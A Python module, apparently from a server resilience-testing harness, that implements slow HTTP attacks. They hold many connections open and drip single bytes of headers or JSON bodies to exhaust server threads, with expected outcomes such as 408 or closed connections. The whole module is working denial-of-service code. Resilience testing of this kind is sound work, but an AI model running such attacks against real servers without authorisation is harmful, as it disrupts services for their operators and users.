"""Connections that send single bytes slowly, to occupy threads or connections of the server."""

from __future__ import annotations

import socket
from collections import deque
from collections.abc import Iterator
from contextlib import ExitStack

from ..attack import CLOSED, OPEN, Attack, Attacker, Response, receive

_ENDED = frozenset({CLOSED, 400, 408, 413})
CONNECTIONS = 150
CONNECTIONS_TO_INSTANCE = 40  # more than the threads of its processes
_BODY = (("Content-Type", "application/json"), ("Content-Length", "1000"))


def _drip(
    attacker: Attacker, start: bytes, connections: int, port: int | None
) -> Iterator[Response]:
    """Hold many connections: open another one, or send a byte on the one that waited longest."""
    waiting: deque[socket.socket] = deque()
    with ExitStack() as opened:
        while True:
            if len(waiting) < connections:
                connection = opened.enter_context(attacker.connect(port))
                connection.sendall(start)
                waiting.append(connection)
                yield Response(OPEN)
                continue
            connection = waiting.popleft()
            response = _send_byte(connection)
            if response.status == OPEN:
                waiting.append(connection)
            else:
                connection.close()
            yield response


def _send_byte(connection: socket.socket) -> Response:
    connection.setblocking(False)
    try:
        ended = connection.recv(1, socket.MSG_PEEK) == b""
    except BlockingIOError:
        ended = False
    except OSError:
        return Response(CLOSED)
    else:
        return Response(CLOSED) if ended else receive(connection)
    try:
        connection.send(b"a")
    except OSError:
        return Response(CLOSED)
    return Response(OPEN)


def drip_headers(attacker: Attacker) -> Iterator[Response]:
    start = attacker.raw("GET", "/").removesuffix(b"\r\n\r\n") + b"\r\nX-Slow: a"
    return _drip(attacker, start, CONNECTIONS, None)


def drip_bodies(attacker: Attacker) -> Iterator[Response]:
    start = attacker.raw("POST", "/api/auth/get-tokens", _BODY) + b"{"
    return _drip(attacker, start, CONNECTIONS, None)


def drip_bodies_to_instance(attacker: Attacker) -> Iterator[Response]:
    start = attacker.raw("POST", "/api/auth/get-tokens", _BODY) + b"{"
    return _drip(attacker, start, CONNECTIONS_TO_INSTANCE, attacker.target.instance_ports[0])


ATTACKS = (
    Attack("headers byte by byte", drip_headers, 20, _ENDED | {OPEN}),
    Attack("bodies byte by byte", drip_bodies, 20, _ENDED | {OPEN}),
    Attack("bodies byte by byte to an instance", drip_bodies_to_instance, 5, _ENDED | {OPEN}),
)
